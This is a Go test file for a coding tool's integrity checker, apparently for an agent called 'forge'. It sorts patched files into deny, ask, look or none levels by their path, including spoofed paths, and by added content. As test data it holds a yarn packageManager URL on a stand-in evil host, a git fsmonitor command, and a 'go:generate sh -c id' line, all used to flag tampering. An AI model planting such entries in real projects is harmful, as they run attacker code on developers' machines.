package integrity

import (
	"testing"

	"github.com/stretchr/testify/require"

	"forge/patch"
)

func TestJudge_KnowsControlFilesByTheirPath(t *testing.T) {
	t.Parallel()
	for level, names := range map[ControlLevel][]string{
		ControlDeny: {".forge/config.yaml", ".forge/skills/x/SKILL.md", "sub/.forge/instructions.md", ".FORGE/config.yaml", ".forge./x", ".f\u200corge/x", ".forge"},
		ControlAsk: {
			".vscode/tasks.json", ".vscode/settings.json", "sub/.vscode/launch.json", ".VSCode/tasks.json", "a.code-workspace", ".idea/workspace.xml", ".nvim.lua", ".exrc",
			".envrc", ".env", ".env.local", "api/.env.production", ".npmrc", ".yarnrc.yml", ".yarn/releases/yarn.cjs", "sitecustomize.py", "x.pth",
			".github/workflows/ci.yml", ".GitHub/Workflows/ci.yml", ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile", "AGENTS.md", "agents.md", "sub/CLAUDE.md", "GEMINI.md",
			".cursor/rules/x.mdc", ".claude/settings.json", ".mcp.json", "mcp.json", ".github/copilot-instructions.md", ".husky/pre-commit", ".githooks/pre-push",
			".pre-commit-config.yaml", ".devcontainer/devcontainer.json", ".gitattributes", ".gitmodules", ".cargo/config.toml", ".bashrc", ".ssh/authorized_keys",
			".hg/hgrc", "sub/.hg/hgrc", ".jj/repo/config.toml", ".svn/wc.db", ".Rprofile", ".gdbinit", ".lldbinit", ".pdbrc.py", ".irbrc", ".junie/guidelines.md", "CODEOWNERS",
			".github/CODEOWNERS", ".github/dependabot.yml", "renovate.json5", "netlify.toml", ".readthedocs.yaml", ".ycm_extra_conf.py", "WARP.md",
			"lefthook.json", ".lefthook.toml", ".config/lefthook.yml", ".simple-git-hooks.json", ".huskyrc", "prek.toml", ".config/git/config", "mise.local.toml", ".config/mise/config.toml", "mise-tasks/x",
			"devbox.json", "sub/devfile.yaml", ".idx/dev.nix", ".codesandbox/tasks.json", ".stackblitzrc", ".bsp/x.json", ".lsp/config.edn", ".run/a.run.xml", ".lazy.lua", ".project",
			".externalToolBuilders/x.launch", ".agent/rules/x.md", ".openhands/setup.sh", ".kilocode/rules/x.md", ".roomodes", ".github/hooks/x.json", ".github/skills/a/SKILL.md", "skills/a/SKILL.md",
			"a.instructions.md", "opencode.jsonc", "x.mcp.json", "cline_mcp_settings.json", ".coderabbit.yaml", ".claude-plugin/plugin.json", "action.yml", ".gitlab-ci-build.yml", ".drone.star", ".tekton/x.yaml",
			".builds/x.yml", ".azure-pipelines/x.yml", "wrangler.toml", "firebase.json", "codemagic.yaml", "OWNERS", ".asf.yaml", ".mergify.yml", ".arcconfig", ".gclient", ".reviewboardrc",
			".perldb", ".ocamlinit", ".user.ini", ".rvmrc", ".dev.vars", ".env-local", ".tmux.conf", "pnpm-workspace.yaml", "uv.toml", ".bazeliskrc", ".config/dotnet-tools.json", ".config/pip/pip.conf",
			".dir-locals.el", ".vscode./tasks.json", ".env ", ".\u017fsh/config",
		},
		ControlLook: {"Makefile", "sub/GNUmakefile", "conftest.py", "tests/conftest.py", "setup.py", "build.rs", "Dockerfile", "gradlew", "eslint.config.mjs", "vite.config.ts", ".eslintrc.cjs", "build.gradle.kts", "CMakeLists.txt", "flake.nix", "WORKSPACE",
			"Taskfile.dist.yml", "Directory.Build.props", "x.csproj", "gradle.properties", "build.sbt", "meson.build", "CMakePresets.json", "Package.swift", "composer.json", "Gemfile", "Makefile.am", "pytest.ini",
			".pylintrc", ".prettierrc", ".unknown/settings.json", "sub/.toolrc", ".github/release.yml",
		},
		ControlNone: {
			"main.go", "README.md", "src/env.go", "docs/agents.txt", "vscode/x.json", "a.vscode/x", ".github/ISSUE_TEMPLATE.md", ".gitignore", "environment.ts", "config", "HEAD",
			"forge/config.yaml", "x.forge/a", "makefile.go", ".dockerignore", ".github/ISSUE_TEMPLATE/bug.yml", "a/./b", "mise/run.go", "owners.go", "action.go", "go.mod", "workspace.go", "src/config.js", "renovate.go", "rules.md", "docs/codeowners.md", ".editorconfig", "src/claude.mdx", "husky/x",
		},
	} {
		for _, name := range names {
			v := ControlOf(patch.FileChange{Kind: patch.Create, Path: name, After: "x\n"})
			require.Equal(t, level, v.Level, name)
			require.Equal(t, level > ControlNone, v.Reason != "", name)
			require.Equal(t, name, v.Path)
			moved := ControlOf(patch.FileChange{Kind: patch.Move, From: name, Path: "elsewhere.txt", Before: "x\n", After: "x\n"})
			require.Equal(t, level, moved.Level, "from %s", name)
		}
	}
}

func TestJudge_SeesAddedLines(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, before, after string
		want                ControlLevel
	}{
		{"package.json", `{"version":"1"}`, `{"version":"2"}`, ControlNone},
		{"package.json", `{"scripts":{"a":"x"}}`, `{"scripts":{"a":"x"},"version":"2"}`, ControlNone},
		{"package.json", `{"scripts":{"a":"x"}}`, `{"scripts":{"a":"x","postinstall":"y"}}`, ControlLook},
		{"sub/package.json", "", `{"scripts":{"a":"x"}}`, ControlLook},
		{"package.json", `{"scripts":{"a":"x"}}`, `{"scripts":{"a":"y"}}`, ControlLook},
		{"package.json", "{", "{ ", ControlLook},
		{"package.json", `{"scripts":{"a":"x"}}`, `{"scripts":{"a":"y"},"Scripts":{"a":"x"}}`, ControlLook},
		{"package.json", `{}`, `{"package\u004danager":"yarn@https://evil.invalid/y.js"}`, ControlAsk},
		{"package.json", `{}`, `{"simple-git-hooks":{"pre-commit":"x"}}`, ControlAsk},
		{"package.json", `{}`, `{"trustedDependencies":["x"]}`, ControlAsk},
		{"go.mod", "go 1.26\n", "go 1.26\n\ntoolchain go1.99.0\n", ControlAsk},
		{"package.json", `{"packageManager":"yarn@4.1.0"}`, `{"packageManager": "yarn@https://evil.invalid/yarn.cjs"}`, ControlAsk},
		{"package.json", `{"packageManager":"yarn@4.1.0"}`, `{"packageManager":"yarn@4.1.0","version":"2"}`, ControlNone},
		{"go.work", "use .\n", "use .\nreplace a.org/b => ../b\n", ControlAsk},
		{"a.go", "package a\n", "package a\n\n//go:generate sh -c id\n", ControlLook},
		{"a.go", "//go:generate sh -c id\npackage a\n", "//go:generate sh -c id\npackage b\n", ControlNone},
		{"a.go", "package a\n", "package a\n\n// #cgo LDFLAGS: -Wl,x\nimport \"C\"\n", ControlLook},
		{"a.go", "package a\n", "package a\n\n/*\n#cgo CFLAGS: -I.\n*/\nimport \"C\"\n", ControlLook},
		{"a.txt", "", "//go:generate x\n", ControlNone},
		{"bare/HEAD", "", "ref: refs/heads/main\n", ControlAsk},
		{"docs/HEAD", "", "a heading\n", ControlNone},
		{"bare/HEAD", "", "ref:refs/heads/main\n", ControlAsk},
		{"bare/HEAD", "", "00000000000000000000000000000000000000a1\n", ControlAsk},
		{"bare/config", "", "\ufeff[core]\n\tfsmonitor = \"touch x\"\n", ControlAsk},
		{"bare/config", "", "; x\n[ui][Pager]status = x\n", ControlAsk},
		{"bare/config.worktree", "", "[core]\n", ControlAsk},
		{"bare/config", "", "[core]\n\tfsmonitor = \"touch x\"\n", ControlAsk},
		{"app/config", "", "[server]\nport = 1\n", ControlNone},
	} {
		c := patch.FileChange{Kind: patch.Update, Path: tt.name, Before: tt.before, After: tt.after}
		require.Equal(t, tt.want, ControlOf(c).Level, "%s: %q", tt.name, tt.after)
	}
}

func TestNamed_WantsTheWholePath(t *testing.T) {
	t.Parallel()
	const name = ".github/workflows/ci.yml"
	for request, want := range map[string]bool{
		"add .github/workflows/ci.yml": true, "add `.github/workflows/ci.yml`.": true, ".github/workflows/ci.yml": true, "see .github/workflows/ci.yml, please": true,
		"add a workflow": false, "add ci.yml": false, "x.github/workflows/ci.yml": false, "sub/.github/workflows/ci.yml": false, ".github/workflows/ci.yml/x": false,
		".github/workflows/ci.ymlx": false, "x/.github/workflows/ci.yml and .github/workflows/ci.yml": true, "..github/workflows/ci.yml": false, "": false,
	} {
		require.Equal(t, want, Named(request, name), request)
	}
}

func TestRefused_IsForgesOwnFolder(t *testing.T) {
	t.Parallel()
	require.NoError(t, Refused(patch.ChangeSet{Files: []patch.FileChange{{Path: ".vscode/tasks.json"}}}))
	err := Refused(patch.ChangeSet{Files: []patch.FileChange{{Path: "a"}, {Kind: patch.Move, From: ".forge/x", Path: "b"}}})
	var refused *patch.PathError
	require.ErrorAs(t, err, &refused)
	require.Equal(t, ".forge/x", refused.Path)
}
